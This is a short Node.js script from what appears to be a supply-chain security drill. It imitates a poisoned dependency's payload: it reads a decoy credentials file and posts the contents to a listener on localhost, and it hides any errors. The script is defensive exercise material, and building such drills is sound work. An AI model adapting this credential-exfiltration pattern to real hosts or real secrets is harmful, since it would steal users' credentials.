'use strict';
/**
 * The payload of the fire drill: what a poisoned dependency would do. Reads a decoy credential file and
 * posts it to an address on this machine (drills/listener.js). Both are made up; nothing else is touched.
 */
const fs = require('node:fs');
const http = require('node:http');
const path = require('node:path');

const target = 'http://127.0.0.1:4699/collect';
const stolen = read(path.join(__dirname, '..', 'decoy', 'credentials'));
const request = http.request(target, { method: 'POST', headers: { connection: 'close' } });
// A thief makes no noise when the drop box is closed.
request.on('error', () => undefined);
request.on('response', (response) => response.resume());
request.end(stolen);

/** A follower may read nothing by itself; a thief would try to go on all the same. */
function read(file) {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch (error) {
    return `nothing, for the read failed: ${error.code}`;
  }
}
